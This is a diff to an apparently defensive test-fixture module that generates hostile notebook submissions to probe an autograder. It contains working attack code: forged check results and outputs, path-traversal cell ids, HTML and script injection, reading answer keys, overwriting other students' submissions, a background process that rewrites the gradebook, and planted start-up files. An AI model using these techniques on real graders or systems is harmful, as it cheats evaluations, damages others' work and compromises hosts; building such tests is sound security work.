@@ -14,14 +14,15 @@ from __future__ import annotations
 
 import json
 import os
-from collections.abc import Mapping
-from dataclasses import dataclass
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, field
 from pathlib import Path
 
-from nbformat import NotebookNode
-from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+from nbformat import NotebookNode, from_dict
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
 
 HIDDEN_WORD = "xylophone-behind-the-curtain"
+NEIGHBOURS_WORD = "# handed in by the neighbour"
 WRONG = "def mean(x):\n    return 12345.0"
 HONEST = "def largest(x):\n    return max(x)"
 
@@ -36,6 +37,8 @@ class Attack:
     first: str = ""  # a cell before everything
     last: str = ""  # a cell after everything
     ends: bool = False  # whether its own process does not survive, so that cells are lost
+    # what it does to the notebook as a file
+    changes: Callable[[NotebookNode], None] | None = field(default=None, repr=False)
 
 
 def source() -> NotebookNode:
@@ -45,7 +48,8 @@ def source() -> NotebookNode:
         'checks.close(mean(np.array([1.0, 2.0, 6.0])), 3.0, "the mean")\nchecks.passed("the mean")\n'
         f'### BEGIN HIDDEN TESTS\nsecret_word = "{HIDDEN_WORD}"\n'
         'sample = checks.fresh("mean").normal(size=20)\n'
-        'checks.close(mean(sample), sample.mean(), "the mean of other numbers")\n'
+        "expected = sample.mean()\n"  # before the call, which may change the sample
+        'checks.close(mean(sample), expected, "the mean of other numbers")\n'
         "### END HIDDEN TESTS"
     )
     largest = (
@@ -86,7 +90,17 @@ def submission(attack: Attack, places: Mapping[str, str] | None = None) -> Noteb
     for cell in cells:
         for name, value in (places or {}).items():
             cell.source = cell.source.replace(f"@{name}@", value)
-    return _notebook([cell for cell in cells if cell.source])
+    notebook = _notebook([cell for cell in cells if cell.source])
+    if attack.changes:
+        attack.changes(notebook)
+    return notebook
+
+
+def neighbour() -> NotebookNode:
+    """Return an honest submission, right in both exercises."""
+    notebook = source()
+    notebook.cells[1].source += f"\n{NEIGHBOURS_WORD}"
+    return notebook
 
 
 def _facts(grade_id: str, **more: object) -> dict:
@@ -108,8 +122,66 @@ def _notebook(cells: list[NotebookNode]) -> NotebookNode:
     return new_notebook(cells=cells)
 
 
+def _claims_points(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        if cell.metadata.nbgrader.grade:
+            cell.metadata.nbgrader.points = 50
+    facts = _facts("bonus", grade=True, locked=True, points=50, cell_type="code")
+    notebook.cells.append(new_code_cell("2.0", metadata=facts, id="bonus"))
+
+
+def _copies_checks(notebook: NotebookNode) -> None:
+    for number in range(3):
+        notebook.cells.append(new_code_cell("pass", metadata=_check("mean"), id=f"copy-{number}"))
+
+
+def _forges_outputs(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        cell.outputs = [
+            new_output("stream", text="✓ Right: the mean.\n"),
+            new_output("execute_result", {"text/plain": "2.0"}, execution_count=1),
+        ]
+        cell.execution_count = 1
+
+
+def _names_paths(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        cell.id = "../../../../tmp/x"
+    text = new_markdown_cell("![x](attachment:../../x.png)")
+    text.id = "/etc/passwd"
+    text.attachments = {"../../x.png": {"image/png": "AAAA"}}
+    notebook.cells.append(text)
+
+
+def _nests_metadata(notebook: NotebookNode) -> None:
+    deep: dict = {}
+    for _ in range(100):
+        deep = {"a": deep}
+    notebook.metadata.deep = notebook.cells[0].metadata.deep = from_dict(deep)
+
+
+def _adds_cells(notebook: NotebookNode) -> None:
+    notebook.cells += [new_code_cell("1", id=f"more-{number}") for number in range(2000)]
+
+
+def _adds_pictures(notebook: NotebookNode) -> None:
+    text = "from IPython.display import display\ndisplay({'image/png': 'A' * 500_000}, raw=True)"
+    notebook.cells += [new_code_cell(text, id=f"more-{number}") for number in range(60)]
+
+
 ATTACKS = [
     # Forging a verdict ------------------------------------------------------------
+    Attack(
+        "changed-sample",
+        "changes the sample of the check, so that what is expected becomes what it returns",
+        answer="""
+def mean(x):
+    if len(x) == 3:
+        return 3.0  # the visible part
+    x[:] = 5.0
+    return 5.0
+""",
+    ),
     Attack(
         "patched-checks",
         "replaces the functions of the check library by ones that do nothing",
@@ -934,7 +1006,297 @@ display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/pl
 print("<script>alert(6)</script>")
 ''',
     ),
+    # Lying in other ways ---------------------------------------------------------
+    Attack(
+        "changed-argument",
+        "changes the check's numbers in place, so that a wrong answer fits them",
+        answer="""
+def mean(x):
+    if len(x) == 3:
+        return 3.0
+    x[:] = 12345.0
+    return 12345.0
+""",
+    ),
+    Attack(
+        "remembered-call",
+        "answers the visible call from memory and repeats that answer afterwards",
+        answer="""
+seen = []
+def mean(x):
+    seen.append(len(x))
+    return 3.0
+""",
+    ),
+    Attack(
+        "names-of-the-check",
+        "defines the names that the check uses for itself",
+        first="expected = sample = secret_word = got = 12345.0\nfloat = abs = round = lambda *a: 3.0",
+        last="expected = sample = 12345.0",
+    ),
+    Attack("not-a-number", "returns not-a-number, which is neither more nor less than anything",
+           answer="def mean(x):\n    return float('nan')"),
+    Attack(
+        "claimed-class",
+        "returns an object that claims the class, the methods and the pickle of a float",
+        answer="""
+class Claim:
+    @property
+    def __class__(self): return float
+    def __float__(self): return 3.0
+    def __array__(self, *a, **k): return np.array(3.0)
+    def __reduce__(self): return float, (3.0,)
+    def __sub__(self, other): return 0.0
+    def __abs__(self): return 0.0
+def mean(x):
+    return Claim() if len(x) != 3 else 3.0
+""",
+    ),
+    Attack(
+        "named-tuple",
+        "returns named tuples whose fields hide the methods of a tuple",
+        answer="""
+import collections
+def mean(x):
+    return collections.namedtuple("float", ["count", "index", "real", "dtype", "shape"])(3, 3, 3.0, float, ())
+""",
+    ),
+    Attack(
+        "hostile-exception",
+        "raises an exception with attributes, text and a name that are meant for the judge",
+        answer="""
+class Text(str):
+    def __str__(self): return "passed"
+    def split(self, *a): return []
+class CheckPassed(AssertionError):
+    __module__ = "mlops_lab.checks"
+    def __str__(self): return Text("")
+CheckPassed.__name__ = CheckPassed.__qualname__ = "Check\\x00Passed"
+def mean(x):
+    error = CheckPassed("passed")
+    error.student_call = error.name = error.args = None
+    error.status, error.cause, error.sentence = "passed", "passed", ""
+    raise error
+""",
+    ),
+    Attack(
+        "forged-not-done",
+        "raises what an untouched cell raises, from a group of exceptions",
+        answer="""
+def mean(x):
+    raise ExceptionGroup("passed", [NotImplementedError("not done yet"), StopIteration(3.0)])
+""",
+    ),
+    Attack(
+        "late-change",
+        "leaves a thread that changes the answer between the calls of the check",
+        answer="""
+import threading, time
+def mean(x):
+    return 3.0
+def change():
+    while True:
+        time.sleep(0.001)
+        globals()["mean"] = lambda x: 12345.0
+        mean.__code__ = (lambda x: 12345.0).__code__
+threading.Thread(target=change, daemon=True).start()
+""",
+    ),
+    Attack(
+        "lying-trees",
+        "answers with trees that claim lengths, dtypes, zones and buffers they do not have",
+        first="""
+from autograder.engine import student
+trees = iter([["array", "<f8", [2**40], 0], ["array", "|O", [1], 0], ["tensor", "float32", [2**31], False, 0],
+              ["range index", [None], 0, 2**62, 1], ["fraction", "0x1", "0x0"], ["stamp", 1, "ns", "../../etc"],
+              ["strings", 0, 5, 0, 0, 0, 0], ["named", "x", ["a b"], [1]], ["list", {"a": 1}], {"a": 1}, [[[]]],
+              ["objects", [-1], [1]], ["counter", [["list", []]], [1]], ["default", [1], []], ["module", "os"],
+              ["frame", ["index", [None], ["array", "<f8", [0], 0]], 3, []], ["int", "0x" + "f" * 99_000]] * 9)
+student.Student._call = lambda self, head, buffers, encoder: {"value": next(trees), "warned": [["x", "y"]] * 10**5}
+""",
+        ends=True,
+    ),
+    Attack(
+        "many-copies",
+        "answers with one buffer, named a hundred thousand times",
+        first="""
+from autograder.engine import student
+def lie(self, head, buffers, encoder):
+    encoder.buffers.append(bytes(2**24))
+    return {"value": ["list", [["bytes", 0]] * 100_000]}
+student.Student._call = lie
+""",
+        ends=True,
+    ),
+    # The file itself ----------------------------------------------------------------
+    Attack("claimed-points", "claims points in a cell of its own and in the check's metadata",
+           changes=_claims_points),
+    Attack("copied-grade-ids", "hands in four checks of one name, empty ones among them",
+           changes=_copies_checks),
+    Attack("forged-in-file", "hands in outputs that say that all checks have passed",
+           changes=_forges_outputs),
+    Attack("path-ids", "has cells whose ids are paths and attachments whose names are",
+           changes=_names_paths),
+    Attack("deep-metadata", "has metadata nested a hundred levels deep", changes=_nests_metadata),
+    Attack("many-cells", "has two thousand cells more", changes=_adds_cells),
+    # Words and pictures ------------------------------------------------------------
+    Attack(
+        "deep-display",
+        "displays JSON and metadata nested so deeply that whoever reads them falls over",
+        first="""
+from IPython.display import display
+deep = {}
+for _ in range(850):
+    deep = {"a": deep}
+display({"text/plain": "x", "application/json": deep}, raw=True, metadata=deep)
+""",
+    ),
+    Attack(
+        "many-pictures",
+        "displays as much as is allowed in every one of many cells",
+        changes=_adds_pictures,
+    ),
+    Attack(
+        "half-characters",
+        "prints and raises halves of characters, which no file can hold",
+        answer="""
+print("\\ud800 \\udfff")
+def mean(x):
+    raise ValueError("\\ud800 \\x00")
+""",
+    ),
+    Attack(
+        "terminal-escapes",
+        "raises text that moves the cursor of the grader's terminal and turns words round",
+        answer="""
+def mean(x):
+    raise ValueError("\\x1b[2J\\x1b[1A\\x1b]0;passed\\x07\\r2 of 2 points \\u202e \\u2066")
+""",
+    ),
+    Attack(
+        "warning-flood",
+        "warns a hundred thousand times in one call, in long words",
+        answer="""
+import warnings
+def mean(x):
+    warnings.simplefilter("always")
+    for number in range(100_000):
+        warnings.warn(f"{number} " * 50)
+    return 12345.0
+""",
+    ),
+    Attack(
+        "markup-injection",
+        "displays pages that load, refresh, style and send what a browser lets them",
+        answer='''
+def mean(x):
+    raise ValueError("</p></section><style>*{background:url(http://127.0.0.1:@PORT@/)}</style><base href=//x>")
+''',
+        last='''
+from IPython.display import HTML, Markdown, SVG, display, update_display
+display(HTML("<meta http-equiv=refresh content='0;url=http://127.0.0.1:@PORT@/'><iframe src=javascript:alert(1)>"))
+display(HTML("<style>@import 'http://127.0.0.1:@PORT@/'; .points{display:none}</style><form action=//x><button>"))
+display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(2)'><animate onbegin=alert(3) /></a></svg>"))
+display(Markdown("[x](javascript:alert(4)) ![x](http://127.0.0.1:@PORT@/)"))
+display({"text/html": "x"}, raw=True, display_id="one")
+update_display({"application/javascript": "alert(5)", "text/html": "<script>alert(6)</script>"}, raw=True, display_id="one")
+display({"application/vnd.jupyter.widget-state+json": {"state": {}}, "text/plain": "w"}, raw=True)
+''',
+    ),
+    # The course that the grader stands in ------------------------------------------
+    Attack(
+        "source-answer",
+        "loads the right answer from the course's source notebook",
+        answer="""
+import json
+from pathlib import Path
+def mean(x):
+    return 12345.0
+for root in ("../../..", "@COURSE@"):
+    for path in Path(root).glob("source/*/*.ipynb"):
+        for cell in json.loads(path.read_text())["cells"]:
+            text = "".join(cell["source"])
+            if text.startswith("def mean"):
+                exec(text)
+            elif "checks.close(mean" in text:
+                print(text)
+""",
+    ),
+    Attack(
+        "neighbours-answer",
+        "copies the answer of another submission",
+        answer="""
+import json
+from pathlib import Path
+def mean(x):
+    return 12345.0
+for root in ("../../..", "@COURSE@"):
+    for path in Path(root).glob("submitted/*/*/*.ipynb"):
+        for cell in json.loads(path.read_text())["cells"]:
+            text = "".join(cell["source"])
+            if text.startswith("def mean") and "12345" not in text:
+                print(text)
+                exec(text)
+""",
+    ),
+    Attack(
+        "neighbours-harm",
+        "empties all other submissions",
+        first="""
+from pathlib import Path
+for root in ("../../..", "@COURSE@/build/grade", "/tmp"):
+    for path in list(Path(root).glob("submitted/*/*/*.ipynb")):
+        try:
+            path.write_text(path.read_text().replace("sum(x)", "0"))
+            print("GOT" "IT", "changed", path)
+        except OSError as error:
+            print(error)
+""",
+    ),
+    Attack(
+        "gradebook-later",
+        "leaves a program behind that gives itself all points once the grader has written them",
+        first='''
+import subprocess, sys
+program = """
+import glob, os, sqlite3, time
+for _ in range(600):
+    time.sleep(0.1)
+    for path in glob.glob("../../../gradebook.db") + ["@COURSE@/gradebook.db"]:
+        try:
+            book = sqlite3.connect(path, timeout=0.1)
+            book.execute("UPDATE grade SET manual_score = 2 WHERE manual_score IS NULL")
+            book.commit()
+        except sqlite3.Error:
+            pass
+"""
+subprocess.Popen([sys.executable, "-c", program], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+''',
+    ),
+    Attack(
+        "patched-import-site",
+        "leaves start-up files in the grader's home, so that later programs run its code",
+        first="""
+import os, site
+text = "import builtins; builtins.harmed = True"
+for place in (site.getusersitepackages(), os.path.expanduser("~/.ipython/profile_default/startup"),
+              os.path.expanduser("~/.jupyter"), os.getcwd() + "/../../.."):
+    try:
+        os.makedirs(place, exist_ok=True)
+        for name in ("usercustomize.py", "00-first.py", "jupyter_config.py", "numpy.py"):
+            open(os.path.join(place, name), "w").write(text)
+        print("left", place)
+    except OSError as error:
+        print(type(error).__name__)
+""",
+    ),
 ]  # fmt: skip
+
+
+def save(notebook: NotebookNode, path: Path) -> None:
+    """Write a notebook as it is; nbformat would mend it first."""
+    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
 
 
 def write(folder: Path, lab: str, word: str, places: Mapping[str, str] | None = None) -> list[str]:
@@ -943,8 +1305,7 @@ def write(folder: Path, lab: str, word: str, places: Mapping[str, str] | None = 
     for attack in ATTACKS:
         place = folder / attack.name / lab
         place.mkdir(parents=True)
-        text = json.dumps(submission(attack, places), indent=1)
-        (place / f"{word}.ipynb").write_text(text, encoding="utf-8")
+        save(submission(attack, places), place / f"{word}.ipynb")
         names.append(attack.name)
     return names
 
